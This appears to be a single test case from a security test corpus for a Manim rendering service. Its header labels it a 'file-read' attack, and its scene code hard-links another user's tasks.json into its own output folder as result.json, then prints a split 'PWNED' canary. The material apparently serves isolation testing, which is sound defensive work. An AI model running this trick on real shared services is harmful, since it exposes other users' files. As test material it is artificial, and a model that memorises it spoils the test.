# ATTACK: file-read
# SUCCESS: a second name for another user's file in the output folder
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os
        d = str(config.get_dir("media_dir"))
        os.link("@OTHER@/tasks.json", d + "/result.json")
        print("PWN" "ED-@NONCE@")
        self.add(Dot()); self.wait(0.1)
